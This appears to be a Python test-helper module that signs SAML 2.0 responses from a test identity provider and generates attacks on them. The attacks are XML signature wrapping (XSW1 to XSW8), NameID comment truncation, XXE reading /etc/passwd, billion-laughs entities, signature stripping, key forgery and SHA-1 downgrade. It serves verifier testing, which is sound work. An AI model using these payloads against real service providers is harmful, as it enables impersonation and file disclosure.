"""A test SAML 2.0 identity provider, and the attacks on what it produces.

``SamlIdp.response()`` builds a real ``samlp:Response`` signed with signxml (enveloped,
RSA-SHA256, exclusive c14n, the signature placed right after the ``saml:Issuer`` of the
signed element as the schema requires, referencing the element by its ``ID``). The
result is accepted by python3-saml in strict mode with ``wantAssertionsSigned`` and
``rejectDeprecatedAlgorithm`` (see ``tests/test_samlkit.py``).

The mutations take the *signed* bytes and return new bytes. They work on the parsed
tree with lxml (never string replacement on signed bytes), so what they produce is
exactly the attack and nothing else:

- ``xsw(n, signed, evil_name_id)``: XML signature wrapping, XSW1 to XSW8 in the
  numbering of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
  (USENIX Security 2012), as implemented by SAML Raider.
- ``with_name_id_comment``: a comment inside NameID that c14n ignores.
- ``with_doctype``: internal entity, external entity, billion laughs.
- ``strip_signature``, ``add_unsigned_assertion``, ``tamper_name_id``.

Keys: RSA key generation takes tens to hundreds of milliseconds, so ``shared_key(label)``
caches one key per label for the whole process (tests in any module asking for the same
label share it). ``IdpKey.generate`` always makes a fresh one.

Nothing here touches the network; python3-saml is not imported (the settings helpers
only build the dictionaries it expects).

Usage::

    idp = SamlIdp(IDP_ENTITY_ID, shared_key("idp"))
    signed = idp.response(attributes={"groups": ["admins"]}, audience=SP_ENTITY_ID)
    form_value = b64(signed)  # SAMLResponse, as the HTTP-POST binding sends it
    wrapped = xsw(3, signed, "mallory@example.com")
    forged = idp.response(signing_key=shared_key("attacker"))
"""

from __future__ import annotations

import base64
import copy
import datetime
import functools
import secrets
import time
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any, Literal, cast

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree  # type: ignore[import-untyped, unused-ignore]
from signxml.algorithms import CanonicalizationMethod, DigestAlgorithm, SignatureMethod
from signxml.signer import XMLSigner

# -- names ----------------------------------------------------------------------------

SAMLP_NS = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML_NS = "urn:oasis:names:tc:SAML:2.0:assertion"
DS_NS = "http://www.w3.org/2000/09/xmldsig#"
NSMAP = {"samlp": SAMLP_NS, "saml": SAML_NS, "ds": DS_NS}

STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
STATUS_RESPONDER = "urn:oasis:names:tc:SAML:2.0:status:Responder"
NAMEID_EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
CM_BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
ATTRNAME_BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"
AC_PASSWORD_PROTECTED = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"

# The default parties: a service provider (the API behind the authorizer) and its IdP.
IDP_ENTITY_ID = "https://idp.example.com/saml/metadata"
SP_ENTITY_ID = "https://api.example.com/saml/metadata"
ACS_URL = "https://api.example.com/saml/acs"

DEFAULT_NAME_ID = "alice@example.com"
DEFAULT_ATTRIBUTES: Mapping[str, Sequence[str]] = {
    "email": ["alice@example.com"],
    "groups": ["admins", "vets"],
}

Algorithm = Literal["rsa-sha256", "rsa-sha1"]
DoctypeKind = Literal["internal", "external", "billion_laughs"]

_ALGORITHMS: Mapping[str, tuple[SignatureMethod, DigestAlgorithm]] = {
    "rsa-sha256": (SignatureMethod.RSA_SHA256, DigestAlgorithm.SHA256),
    "rsa-sha1": (SignatureMethod.RSA_SHA1, DigestAlgorithm.SHA1),
}

_SAML_TIME = "%Y-%m-%dT%H:%M:%SZ"


def _q(prefix: str, local: str) -> str:
    """Clark notation for a prefixed name: ``_q("saml", "Issuer")`` -> ``{urn:...}Issuer``."""
    return f"{{{NSMAP[prefix]}}}{local}"


def _saml_time(epoch: float) -> str:
    return datetime.datetime.fromtimestamp(int(epoch), tz=datetime.UTC).strftime(_SAML_TIME)


def new_id() -> str:
    """A fresh SAML ID (an xs:ID must not start with a digit, hence the underscore)."""
    return "_" + secrets.token_hex(16)


def b64(xml: bytes) -> str:
    """Standard base64, as the HTTP-POST binding carries ``SAMLResponse``."""
    return base64.b64encode(xml).decode("ascii")


# -- keys -----------------------------------------------------------------------------


@dataclass(frozen=True)
class IdpKey:
    """An RSA 2048 signing key and its self-signed X.509 certificate."""

    private_key: rsa.RSAPrivateKey
    certificate: x509.Certificate

    @classmethod
    def generate(cls, common_name: str = "samlkit test IdP", *, valid_days: int = 365) -> IdpKey:
        """A fresh key and certificate (slow: prefer ``shared_key`` in tests)."""
        private_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
        now = datetime.datetime.now(tz=datetime.UTC)
        certificate = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(name)
            .public_key(private_key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=valid_days))
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .sign(private_key, hashes.SHA256())
        )
        return cls(private_key, certificate)

    @property
    def cert_pem(self) -> str:
        """The certificate in PEM armour."""
        return self.certificate.public_bytes(serialization.Encoding.PEM).decode("ascii")

    @property
    def key_pem(self) -> str:
        """The private key, unencrypted PKCS#8 PEM."""
        return self.private_key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        ).decode("ascii")

    @property
    def cert_b64(self) -> str:
        """The certificate's DER in base64 on one line, as IdP metadata and ``<ds:X509Certificate>`` carry it."""
        return base64.b64encode(self.certificate.public_bytes(serialization.Encoding.DER)).decode("ascii")


@functools.cache
def shared_key(label: str = "idp") -> IdpKey:
    """One key per label for the whole test process (``"idp"``, ``"attacker"``, ...)."""
    return IdpKey.generate(f"samlkit {label}")


# -- signing --------------------------------------------------------------------------


class _Sha1Signer(XMLSigner):
    """signxml refuses SHA-1 in its default configuration; overriding the check is its documented opt-in.

    Used only to produce the deprecated-algorithm test case.
    """

    def check_deprecated_methods(self) -> None:
        return None


def _placeholder_after_issuer(element: Any) -> None:
    """Put signxml's ``<ds:Signature Id="placeholder"/>`` right after the Issuer (schema order)."""
    issuer = element.find("saml:Issuer", NSMAP)
    if issuer is None:
        raise ValueError(f"{element.tag} has no saml:Issuer to place the signature after")
    placeholder = etree.Element(_q("ds", "Signature"), nsmap={"ds": DS_NS})
    placeholder.set("Id", "placeholder")
    issuer.addnext(placeholder)


def sign_element(element: Any, key: IdpKey, algorithm: Algorithm = "rsa-sha256") -> Any:
    """Sign ``element`` (a Response or an Assertion with an ``ID``) in an enveloped signature.

    Returns a new element and leaves ``element`` as it was; the signature sits right after
    the element's ``saml:Issuer`` (where the schema wants it: signxml appends it last unless
    a placeholder says otherwise) and references ``#<ID>``.
    """
    signature_method, digest = _ALGORITHMS[algorithm]
    signer_class = _Sha1Signer if algorithm == "rsa-sha1" else XMLSigner
    signer = signer_class(
        signature_algorithm=signature_method,
        digest_algorithm=digest,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    element = copy.deepcopy(element)
    _placeholder_after_issuer(element)
    return signer.sign(element, key=key.private_key, cert=key.cert_pem, id_attribute="ID")


# -- the identity provider -------------------------------------------------------------


@dataclass(frozen=True)
class SamlIdp:
    """A SAML 2.0 identity provider that answers with signed ``samlp:Response`` documents."""

    entity_id: str
    key: IdpKey

    def response(
        self,
        *,
        name_id: str = DEFAULT_NAME_ID,
        name_id_format: str | None = NAMEID_EMAIL,
        attributes: Mapping[str, Sequence[str]] | None = None,
        audience: str | None = SP_ENTITY_ID,
        recipient: str | None = ACS_URL,
        destination: str | None = ACS_URL,
        issuer: str | None = None,
        in_response_to: str | None = None,
        now: float | None = None,
        not_before: float = -60,
        not_on_or_after: float = 300,
        session_not_on_or_after: float | None = None,
        assertion_id: str | None = None,
        response_id: str | None = None,
        sign_assertion: bool = True,
        sign_response: bool = False,
        signing_key: IdpKey | None = None,
        algorithm: Algorithm = "rsa-sha256",
        status: str = STATUS_SUCCESS,
        extra_assertions: int = 0,
    ) -> bytes:
        """A ``samlp:Response`` as UTF-8 XML bytes.

        - ``attributes``: ``None`` gives ``DEFAULT_ATTRIBUTES``; ``{}`` gives no AttributeStatement.
        - ``audience=None``: no AudienceRestriction at all. ``recipient=None``: no Recipient on
          SubjectConfirmationData. ``destination=None``: no Destination on the Response.
        - ``issuer``: both Issuers (Response and Assertion); default ``entity_id``.
        - ``now`` (epoch seconds, default the clock); ``not_before`` and ``not_on_or_after`` are
          offsets from it for Conditions, and ``not_on_or_after`` is also the
          SubjectConfirmationData NotOnOrAfter. ``session_not_on_or_after``: offset for the
          AuthnStatement's SessionNotOnOrAfter (``None``: absent).
        - ``signing_key``: default the IdP's own; pass another ``IdpKey`` to forge.
        - ``algorithm="rsa-sha1"`` signs with RSA-SHA1 and a SHA-1 digest (deprecated).
        - ``extra_assertions``: unsigned copies of the assertion (fresh IDs) appended after it;
          with ``sign_response`` they are covered by the Response signature.
        """
        issued = time.time() if now is None else now
        issuer_value = self.entity_id if issuer is None else issuer
        key = self.key if signing_key is None else signing_key

        response = etree.Element(_q("samlp", "Response"), nsmap={"samlp": SAMLP_NS, "saml": SAML_NS})
        response.set("ID", response_id or new_id())
        response.set("Version", "2.0")
        response.set("IssueInstant", _saml_time(issued))
        if destination is not None:
            response.set("Destination", destination)
        if in_response_to is not None:
            response.set("InResponseTo", in_response_to)
        _text(response, "saml", "Issuer", issuer_value)
        status_element = etree.SubElement(response, _q("samlp", "Status"))
        etree.SubElement(status_element, _q("samlp", "StatusCode")).set("Value", status)

        assertion = self._assertion(
            assertion_id=assertion_id or new_id(),
            issuer=issuer_value,
            issued=issued,
            name_id=name_id,
            name_id_format=name_id_format,
            attributes=DEFAULT_ATTRIBUTES if attributes is None else attributes,
            audience=audience,
            recipient=recipient,
            in_response_to=in_response_to,
            not_before=not_before,
            not_on_or_after=not_on_or_after,
            session_not_on_or_after=session_not_on_or_after,
        )
        unsigned_copy = copy.deepcopy(assertion)
        if sign_assertion:
            assertion = sign_element(assertion, key, algorithm)
        response.append(assertion)
        for _ in range(extra_assertions):
            extra = copy.deepcopy(unsigned_copy)
            extra.set("ID", new_id())
            response.append(extra)

        if sign_response:
            response = sign_element(response, key, algorithm)
        return _serialize(response)

    def _assertion(
        self,
        *,
        assertion_id: str,
        issuer: str,
        issued: float,
        name_id: str,
        name_id_format: str | None,
        attributes: Mapping[str, Sequence[str]],
        audience: str | None,
        recipient: str | None,
        in_response_to: str | None,
        not_before: float,
        not_on_or_after: float,
        session_not_on_or_after: float | None,
    ) -> Any:
        assertion = etree.Element(_q("saml", "Assertion"), nsmap={"saml": SAML_NS})
        assertion.set("ID", assertion_id)
        assertion.set("Version", "2.0")
        assertion.set("IssueInstant", _saml_time(issued))
        _text(assertion, "saml", "Issuer", issuer)

        subject = etree.SubElement(assertion, _q("saml", "Subject"))
        name_id_element = _text(subject, "saml", "NameID", name_id)
        if name_id_format is not None:
            name_id_element.set("Format", name_id_format)
        confirmation = etree.SubElement(subject, _q("saml", "SubjectConfirmation"))
        confirmation.set("Method", CM_BEARER)
        confirmation_data = etree.SubElement(confirmation, _q("saml", "SubjectConfirmationData"))
        confirmation_data.set("NotOnOrAfter", _saml_time(issued + not_on_or_after))
        if recipient is not None:
            confirmation_data.set("Recipient", recipient)
        if in_response_to is not None:
            confirmation_data.set("InResponseTo", in_response_to)

        conditions = etree.SubElement(assertion, _q("saml", "Conditions"))
        conditions.set("NotBefore", _saml_time(issued + not_before))
        conditions.set("NotOnOrAfter", _saml_time(issued + not_on_or_after))
        if audience is not None:
            restriction = etree.SubElement(conditions, _q("saml", "AudienceRestriction"))
            _text(restriction, "saml", "Audience", audience)

        authn = etree.SubElement(assertion, _q("saml", "AuthnStatement"))
        authn.set("AuthnInstant", _saml_time(issued))
        authn.set("SessionIndex", new_id())
        if session_not_on_or_after is not None:
            authn.set("SessionNotOnOrAfter", _saml_time(issued + session_not_on_or_after))
        context = etree.SubElement(authn, _q("saml", "AuthnContext"))
        _text(context, "saml", "AuthnContextClassRef", AC_PASSWORD_PROTECTED)

        if attributes:
            statement = etree.SubElement(assertion, _q("saml", "AttributeStatement"))
            for name, values in attributes.items():
                attribute = etree.SubElement(statement, _q("saml", "Attribute"))
                attribute.set("Name", name)
                attribute.set("NameFormat", ATTRNAME_BASIC)
                for value in values:
                    _text(attribute, "saml", "AttributeValue", value)
        return assertion


def _text(parent: Any, prefix: str, local: str, text: str) -> Any:
    child = etree.SubElement(parent, _q(prefix, local))
    child.text = text
    return child


def _serialize(root: Any, doctype: str | None = None) -> bytes:
    return cast(bytes, etree.tostring(root, xml_declaration=True, encoding="UTF-8", doctype=doctype))


# -- reading and mutating signed responses ----------------------------------------------------


def parse(xml: bytes) -> Any:
    """Parse without resolving entities or touching the network (comments are kept)."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False)
    return etree.fromstring(xml, parser)


def _assertion_of(root: Any) -> Any:
    assertion = root.find("saml:Assertion", NSMAP)
    if assertion is None:
        raise ValueError("the Response has no saml:Assertion child")
    return assertion


def _signature_of(element: Any, what: str) -> Any:
    signature = element.find("ds:Signature", NSMAP)
    if signature is None:
        raise ValueError(f"the {what} is not signed")
    return signature


def _set_name_ids(element: Any, value: str) -> None:
    """Set every saml:Subject/saml:NameID under ``element`` (itself an Assertion or a Response)."""
    found = element.findall(".//saml:Subject/saml:NameID", NSMAP)
    if not found:
        raise ValueError("no saml:NameID found")
    for name_id in found:
        for child in list(name_id):  # comments or entity references from an earlier mutation
            name_id.remove(child)
        name_id.text = value


def _unsigned_copy(element: Any, *, new_id: str | None = None, name_id: str | None = None) -> Any:
    """A deep copy of ``element`` without its own enveloped signature."""
    clone = copy.deepcopy(element)
    own_signature = clone.find("ds:Signature", NSMAP)
    if own_signature is not None:
        clone.remove(own_signature)
    if new_id is not None:
        clone.set("ID", new_id)
    if name_id is not None:
        _set_name_ids(clone, name_id)
    return clone


EVIL_RESPONSE_ID = "_evil_response"
EVIL_ASSERTION_ID = "_evil_assertion"


def _xsw1(root: Any, evil: str) -> None:
    """XSW1: an unsigned copy of the signed Response goes into its ds:Signature; the root gets a new ID, evil data."""
    signature = _signature_of(root, "Response")
    original = _unsigned_copy(root)
    root.set("ID", EVIL_RESPONSE_ID)
    _set_name_ids(root, evil)
    signature.append(original)


def _xsw2(root: Any, evil: str) -> None:
    """XSW2: like XSW1, but the copy of the signed Response goes just before the ds:Signature (detached)."""
    signature = _signature_of(root, "Response")
    original = _unsigned_copy(root)
    root.set("ID", EVIL_RESPONSE_ID)
    _set_name_ids(root, evil)
    signature.addprevious(original)


def _xsw3(root: Any, evil: str) -> None:
    """XSW3: an unsigned evil Assertion (new ID) is inserted before the signed one, as its sibling."""
    assertion = _assertion_of(root)
    _signature_of(assertion, "Assertion")
    assertion.addprevious(_unsigned_copy(assertion, new_id=EVIL_ASSERTION_ID, name_id=evil))


def _xsw4(root: Any, evil: str) -> None:
    """XSW4: an unsigned evil Assertion (new ID) takes the signed one's place, and the signed one moves inside it."""
    assertion = _assertion_of(root)
    _signature_of(assertion, "Assertion")
    evil_assertion = _unsigned_copy(assertion, new_id=EVIL_ASSERTION_ID, name_id=evil)
    assertion.addprevious(evil_assertion)
    evil_assertion.append(assertion)


def _xsw5(root: Any, evil: str) -> None:
    """XSW5: the signed Assertion turns evil (new ID, keeps its Signature); an unsigned copy of the original follows."""
    assertion = _assertion_of(root)
    _signature_of(assertion, "Assertion")
    original = _unsigned_copy(assertion)
    assertion.set("ID", EVIL_ASSERTION_ID)
    _set_name_ids(assertion, evil)
    root.append(original)


def _xsw6(root: Any, evil: str) -> None:
    """XSW6: like XSW5, but the unsigned copy of the original Assertion goes inside the evil one's ds:Signature."""
    assertion = _assertion_of(root)
    signature = _signature_of(assertion, "Assertion")
    original = _unsigned_copy(assertion)
    assertion.set("ID", EVIL_ASSERTION_ID)
    _set_name_ids(assertion, evil)
    signature.append(original)


def _xsw7(root: Any, evil: str) -> None:
    """XSW7: an unsigned evil Assertion (new ID) inside a samlp:Extensions placed before the signed one."""
    assertion = _assertion_of(root)
    _signature_of(assertion, "Assertion")
    extensions = etree.Element(_q("samlp", "Extensions"))
    extensions.append(_unsigned_copy(assertion, new_id=EVIL_ASSERTION_ID, name_id=evil))
    # Schema order: Issuer, Signature?, Extensions?, Status.
    status = root.find("samlp:Status", NSMAP)
    if status is None:
        raise ValueError("the Response has no samlp:Status")
    status.addprevious(extensions)


def _xsw8(root: Any, evil: str) -> None:
    """XSW8: like XSW6, but the unsigned copy of the original goes into a ds:Object in the evil one's ds:Signature."""
    assertion = _assertion_of(root)
    signature = _signature_of(assertion, "Assertion")
    original = _unsigned_copy(assertion)
    assertion.set("ID", EVIL_ASSERTION_ID)
    _set_name_ids(assertion, evil)
    etree.SubElement(signature, _q("ds", "Object")).append(original)


XSW_VARIANTS: Mapping[int, Callable[[Any, str], None]] = {
    1: _xsw1,
    2: _xsw2,
    3: _xsw3,
    4: _xsw4,
    5: _xsw5,
    6: _xsw6,
    7: _xsw7,
    8: _xsw8,
}
"""XSW1 and XSW2 need a signed Response; XSW3 to XSW8 need a signed Assertion."""


def xsw(n: int, signed: bytes, evil_name_id: str) -> bytes:
    """XML signature wrapping variant ``n`` (1 to 8) of a signed Response.

    The signed element is kept byte for byte, under its own ID, somewhere in the document;
    the element a naive reader picks (the root Response, or the first Assertion) carries
    ``evil_name_id`` and has no valid signature. Each variant's docstring in
    ``XSW_VARIANTS`` says where things go.

    Placement follows SAML Raider; one deliberate difference: the evil copy in XSW7 and
    XSW8 gets a new ID (SAML Raider keeps the original's), so the Reference is never
    ambiguous and the signature verifies wherever the verifier's rules allow. With
    libxmlsec (python3-saml's verifier) the signature still verifies for XSW2, 3, 4, 5
    and 7; for XSW1, 6 and 8 the signed copy sits inside ds:Signature, which the
    enveloped-signature transform cuts out, so the digest no longer matches there.
    """
    if n not in XSW_VARIANTS:
        raise ValueError(f"XSW{n} is not one of XSW1 to XSW8")
    root = parse(signed)
    XSW_VARIANTS[n](root, evil_name_id)
    return _serialize(root)


def with_name_id_comment(signed: bytes, visible_prefix: str) -> bytes:
    """Split the (signed) NameID text with an empty comment after ``visible_prefix``.

    The IdP signed ``alice@example.com.evil.com``; this returns a document whose NameID
    reads ``alice@example.com<!---->.evil.com``. Canonicalization drops comments, so the
    signature still verifies, while a reader that takes only the first text node (lxml's
    ``.text``) sees ``alice@example.com``.
    """
    root = parse(signed)
    name_id = root.find(".//saml:Assertion/saml:Subject/saml:NameID", NSMAP)
    if name_id is None:
        raise ValueError("no saml:NameID found")
    text = name_id.text or ""
    if not text.startswith(visible_prefix) or text == visible_prefix:
        raise ValueError(f"the NameID {text!r} does not extend {visible_prefix!r}")
    name_id.text = visible_prefix
    comment = etree.Comment("")
    comment.tail = text[len(visible_prefix) :]
    name_id.append(comment)
    return _serialize(root)


# lol0 is "lol"; each next entity is ten of the previous one: lol9 expands to 10**9 "lol"s.
_BILLION_LAUGHS = '<!ENTITY lol0 "lol">' + "".join(
    '<!ENTITY lol{} "{}">'.format(i, f"&lol{i - 1};" * 10) for i in range(1, 10)
)


def with_doctype(xml: bytes, kind: DoctypeKind) -> bytes:
    """The document with a DOCTYPE whose entities a careless parser would expand.

    - ``internal``: ``<!ENTITY name "...">`` whose value is the NameID text, and the NameID
      replaced by ``&name;``: a parser that expands entities sees the signed content
      unchanged, so the signature still verifies for it.
    - ``external``: ``<!ENTITY xxe SYSTEM "file:///etc/passwd">`` referenced from a
      ``samlp:StatusMessage`` (outside the signed Assertion).
    - ``billion_laughs``: ten-fold nested entities nine deep (10**9 "lol"s), referenced
      from a ``samlp:StatusMessage``.
    """
    root = parse(xml)
    if kind == "internal":
        name_id = root.find(".//saml:Assertion/saml:Subject/saml:NameID", NSMAP)
        if name_id is None:
            raise ValueError("no saml:NameID found")
        value = name_id.text or ""
        if any(c in value for c in '"&%<'):
            raise ValueError("the NameID cannot be an entity value as it is")
        subset = f'<!ENTITY name "{value}">'
        name_id.text = None
        name_id.append(etree.Entity("name"))
    elif kind in ("external", "billion_laughs"):
        entity = "xxe" if kind == "external" else "lol9"
        subset = '<!ENTITY xxe SYSTEM "file:///etc/passwd">' if kind == "external" else _BILLION_LAUGHS
        status = root.find("samlp:Status", NSMAP)
        if status is None:
            raise ValueError("the Response has no samlp:Status")
        message = status.find("samlp:StatusMessage", NSMAP)
        if message is None:
            message = etree.SubElement(status, _q("samlp", "StatusMessage"))
            status.find("samlp:StatusCode", NSMAP).addnext(message)
        message.text = None
        message.append(etree.Entity(entity))
    else:
        raise ValueError(f"unknown DOCTYPE kind {kind!r}")
    return _serialize(root, doctype=f"<!DOCTYPE samlp:Response [{subset}]>")


def strip_signature(signed: bytes) -> bytes:
    """Every ds:Signature removed (the Response's and the Assertion's)."""
    root = parse(signed)
    for signature in root.findall(".//ds:Signature", NSMAP):
        signature.getparent().remove(signature)
    return _serialize(root)


def add_unsigned_assertion(signed: bytes, evil_name_id: str) -> bytes:
    """A second, unsigned Assertion (new ID, ``evil_name_id``) appended after the signed one."""
    root = parse(signed)
    assertion = _assertion_of(root)
    root.append(_unsigned_copy(assertion, new_id=EVIL_ASSERTION_ID, name_id=evil_name_id))
    return _serialize(root)


def tamper_name_id(signed: bytes, new_name_id: str) -> bytes:
    """The NameID changed in place: signed content changed, so the signature must fail."""
    root = parse(signed)
    _set_name_ids(_assertion_of(root), new_name_id)
    return _serialize(root)


def naive_name_ids(xml: bytes) -> list[str | None]:
    """Every Assertion's NameID, in document order, as lxml's ``.text`` reads it (it stops at a comment).

    What code that ignores the signature's Reference and reads with its own parser would see.
    """
    name_ids = parse(xml).iterfind(".//saml:Assertion/saml:Subject/saml:NameID", NSMAP)
    return [cast("str | None", node.text) for node in name_ids]


# -- python3-saml inputs ----------------------------------------------------------------------


def python3_saml_settings(
    idp: SamlIdp,
    *,
    sp_entity_id: str = SP_ENTITY_ID,
    acs_url: str = ACS_URL,
    strict: bool = True,
    **security: Any,
) -> dict[str, Any]:
    """Settings for ``OneLogin_Saml2_Settings(..., sp_validation_only=True)`` trusting ``idp``.

    Security defaults: assertions must be signed, deprecated algorithms refused, a NameID
    required, messages (the Response) need not be signed; ``security`` overrides them.
    """
    return {
        "strict": strict,
        "debug": False,
        "sp": {"entityId": sp_entity_id, "assertionConsumerService": {"url": acs_url}},
        "idp": {"entityId": idp.entity_id, "x509cert": idp.key.cert_b64},
        "security": {
            "wantAssertionsSigned": True,
            "rejectDeprecatedAlgorithm": True,
            "wantNameId": True,
            "wantMessagesSigned": False,
            **security,
        },
    }


def python3_saml_request_data(acs_url: str = ACS_URL) -> dict[str, Any]:
    """The request as python3-saml's ``get_self_url_no_query`` reads it, for a POST to ``acs_url``.

    It reads ``https`` (anything but ``"off"``), ``http_host`` (host, with a port when one
    is needed), ``script_name`` and an optional ``path_info``. ``server_port`` is left out on
    purpose: python3-saml 1.16 warns (DeprecationWarning) whenever it is present.
    """
    scheme, _, rest = acs_url.partition("://")
    host, _, path = rest.partition("/")
    return {
        "https": "on" if scheme == "https" else "off",
        "http_host": host,
        "script_name": "/" + path,
        "get_data": {},
        "post_data": {},
    }
